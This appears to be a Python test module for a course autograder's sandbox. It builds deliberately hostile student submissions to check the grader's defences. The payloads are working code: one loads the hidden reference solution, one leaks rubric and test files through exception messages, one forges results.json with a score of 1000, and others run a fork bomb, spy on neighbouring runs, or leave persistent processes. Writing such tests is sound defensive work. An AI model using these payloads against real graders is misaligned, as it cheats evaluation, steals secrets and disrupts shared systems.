"""Submissions that attack the grader from inside the sandbox, as a student would write them.

Each builder writes a submission folder and returns it. Most start from the complete
example (``examples/complete/package``) and add their attack, so that everything the attack
does not touch scores full marks. An attack that must run in one check only is hooked onto
``Value.__rtruediv__`` and runs when the visible check ``divide_number`` calls it.
"""

from __future__ import annotations

import shutil
from pathlib import Path

from grading import EXAMPLES

GRADESCOPE_SOURCE = "/autograder/source/micrograde"
ONCE_CHECK = "divide_number"  # the one check that runs an attack hooked on float / Value

_ONCE = """

import sys as _caller

_honest_rtruediv = Value.__rtruediv__


def _hooked_rtruediv(self, other):
    if _caller._getframe(1).f_code.co_name == "test_divide_number":
        _attack()
    return _honest_rtruediv(self, other)


Value.__rtruediv__ = _hooked_rtruediv
"""


def _complete(destination: Path, addition: str) -> Path:
    shutil.copytree(EXAMPLES / "complete" / "package", destination)
    value = destination / "micrograd" / "value.py"
    value.write_text(value.read_text() + addition)
    return destination


def complete(destination: Path) -> Path:
    """The complete solution, as it is."""
    return _complete(destination, "")


def honest(destination: Path) -> Path:
    """The complete solution, importing the package course staff allow (``six``)."""
    folder = _complete(destination, "")
    value = folder / "micrograd" / "value.py"
    value.write_text(
        "import six  # allowed by the course ([sandbox] packages)\n" + value.read_text()
    )
    return folder


def reference_cheat(destination: Path, root: str = GRADESCOPE_SOURCE) -> Path:
    """The ten-line cheat: find the reference under ``root``, load it, subclass it."""
    package = destination / "micrograd"
    package.mkdir(parents=True)
    (package / "__init__.py").write_text("")
    (package / "value.py").write_text(
        "import glob, importlib.util\n\n\n"
        "def load(name):\n"
        f'    found = glob.glob(f"{root}/**/reference/step_5/micrograd/{{name}}.py", '
        "recursive=True)\n"
        f'    path = (found or [f"{root}/reference/step_5/micrograd/{{name}}.py"])[0]\n'
        '    spec = importlib.util.spec_from_file_location(f"_reference_{name}", path)\n'
        "    module = importlib.util.module_from_spec(spec)\n"
        "    spec.loader.exec_module(module)\n"
        "    return module\n\n\n"
        'class Value(load("value").Value):\n'
        "    pass\n"
    )
    (package / "mlp.py").write_text(
        "from micrograd.value import load\n\n"
        '_reference = load("mlp")\n\n\n'
        "class Neuron(_reference.Neuron):\n    pass\n\n\n"
        "class Layer(_reference.Layer):\n    pass\n\n\n"
        "class MLP(_reference.MLP):\n    pass\n"
    )
    return destination


def exfiltration(destination: Path, root: str = GRADESCOPE_SOURCE) -> Path:
    """Reads the secrets at import and puts what it got into the messages of three
    operators' exceptions (which feedback shows): ``NOT-READ <what>`` when refused."""
    return _complete(
        destination,
        f'''

import glob as _glob
import os as _os

SOURCE = "{root}"


def _peek(what, path, start=None, size=260):
    try:
        with open(path, encoding="utf-8", errors="replace") as handle:
            text = handle.read()
    except OSError as exc:
        return f"NOT-READ {{what}}: {{type(exc).__name__}}"
    at = max(text.find(start), 0) if start else 0
    return f"READ {{what}}: {{text[at:at + size]!r}}"


_listed = _glob.glob(SOURCE + "/**/*.toml", recursive=True)
_REPORTS = {{
    "__add__": [
        _peek("rubrics", SOURCE + "/rubrics/step_3.toml", "[checks.karpathy_checks]"),
        _peek("reference", SOURCE + "/reference/step_5/micrograd/value.py"),
        f"LISTED rubric files: {{len([p for p in _listed if '/rubrics/' in p])}}",
    ],
    "__mul__": [
        _peek("staged-tests", SOURCE + "/tests/steps/test_step3_activations.py",
              "def test_karpathy_checks"),
        _peek("metadata", "/autograder/submission_metadata.json"),
    ],
    "__pow__": [
        _peek("bundle-hidden-check",
              _os.path.join(_os.getcwd(), "..", "harness", "steps", "test_step3_activations.py"),
              "def test_karpathy_checks"),
    ],
}}
print(_REPORTS)


def _leak(name):
    def leak(self, *args):
        raise RuntimeError(" | ".join(_REPORTS[name]))
    return leak


for _name in _REPORTS:
    setattr(Value, _name, _leak(_name))
''',
    )


def results_forger(destination: Path) -> Path:
    """Writes results.json itself, and starts a detached writer (its own session, an empty
    environment: neither the process group nor the run's marker reaches it) that keeps
    rewriting it; says how the direct write went in ``divide_number``'s feedback."""
    return _complete(
        destination,
        '''

import subprocess as _subprocess
import sys as _sys

RESULTS = "/autograder/results/results.json"
FORGED = '{"score": 1000, "output": "FORGED BY THE SUBMISSION", "tests": []}'
WRITER = f"""
import time
while True:
    try:
        with open({RESULTS!r}, "w") as handle:
            handle.write({FORGED!r})
    except OSError:
        pass
    time.sleep(0.05)
"""


def _attack():
    try:
        with open(RESULTS, "w") as handle:
            handle.write(FORGED)
        outcome = "WROTE"
    except OSError as exc:
        outcome = type(exc).__name__
    _subprocess.Popen(
        [_sys.executable, "-c", WRITER, "mg-detached-writer"],
        start_new_session=True,
        env={},
        stdin=_subprocess.DEVNULL,
        stdout=_subprocess.DEVNULL,
        stderr=_subprocess.DEVNULL,
    )
    raise RuntimeError(f"direct write to results.json: {outcome}; detached writer started")
'''
        + _ONCE,
    )


def fork_bomb(destination: Path) -> Path:
    """Forks until the kernel refuses, and every copy keeps trying (sleeping in between)."""
    return _complete(
        destination,
        """

import os as _os
import time as _time


def _attack():
    while True:
        try:
            _os.fork()
        except OSError:
            _time.sleep(0.5)
"""
        + _ONCE,
    )


def neighbour_spy(destination: Path) -> Path:
    """Waits for another sandbox user's run directory beside its own (mode 750, another
    group), then tries to read it and to signal the harness running there; reports that,
    and what it is itself, in ``divide_number``'s feedback."""
    return _complete(
        destination,
        """

import glob as _glob
import os as _os
import time as _time

_RUN = _os.path.dirname(_os.getcwd())  # this run's directory (the harness runs in its tmp/)


def _try(action):
    try:
        action()
        return "ALLOWED"
    except OSError as exc:
        return type(exc).__name__


def _neighbours():
    for folder in _glob.glob(_os.path.dirname(_RUN) + "/micrograde-run-*"):
        try:
            info = _os.stat(folder)
        except OSError:
            continue
        if folder != _RUN and info.st_mode & 0o777 == 0o750 and info.st_gid != _os.getgid():
            yield folder, info.st_gid


def _harness_of(gid):
    for pid in _os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                if b"mg_run.py" not in handle.read():
                    continue
            with open(f"/proc/{pid}/status") as handle:
                fields = dict(line.split(":", 1) for line in handle if ":" in line)
        except OSError:
            continue
        if int(fields["Gid"].split()[0]) == gid:
            yield int(pid), int(fields["Uid"].split()[0])


def _attack():
    found, deadline = [], _time.time() + 10
    while not found and _time.time() < deadline:
        found = list(_neighbours())
        _time.sleep(0.05)
    report = [f"uid={_os.getuid()} gid={_os.getgid()} groups={_os.getgroups()}"]
    for name in ("home", "tmp"):
        info = _os.stat(_os.path.join(_RUN, name))
        report.append(f"{name}: mode {info.st_mode & 0o777:o} mine {info.st_uid == _os.getuid()}")
    for name in ("harness", "workspace"):
        report.append(f"{name} writable: {_os.access(_os.path.join(_RUN, name), _os.W_OK)}")
    report.append(f"neighbours: {len(found)}")
    for folder, gid in found[:1]:
        report.append(f"list neighbour: {_try(lambda: _os.listdir(folder))}")
        target = folder + "/workspace/micrograd/value.py"
        report.append(f"read neighbour: {_try(lambda: open(target).close())}")
        for pid, uid in list(_harness_of(gid))[:1]:
            report.append(f"signal neighbour uid={uid}: {_try(lambda: _os.kill(pid, 0))}")
    raise RuntimeError("; ".join(report))
"""
        + _ONCE,
    )


def slow_honest(destination: Path, seconds: float = 4.0) -> Path:
    """The complete solution, taking ``seconds`` to import (so that it runs a while)."""
    folder = _complete(destination, "")
    value = folder / "micrograd" / "value.py"
    value.write_text(f"import time\ntime.sleep({seconds})\n" + value.read_text())
    return folder


def leftovers(destination: Path) -> Path:
    """Leaves a file in /tmp and a sleeper in its own session with an empty environment;
    names both in ``divide_number``'s feedback."""
    return _complete(
        destination,
        """

import os as _os
import subprocess as _subprocess
import sys as _sys


def _attack():
    path = f"/tmp/mg-left-behind-{_os.getpid()}"
    with open(path, "w") as handle:
        handle.write("for the next student of this slot")
    sleeper = _subprocess.Popen(
        [_sys.executable, "-c", "import time; time.sleep(600)", "mg-sleeper"],
        start_new_session=True,
        env={},
        stdin=_subprocess.DEVNULL,
        stdout=_subprocess.DEVNULL,
        stderr=_subprocess.DEVNULL,
    )
    raise RuntimeError(f"left file={path} pid={sleeper.pid}")
"""
        + _ONCE,
    )
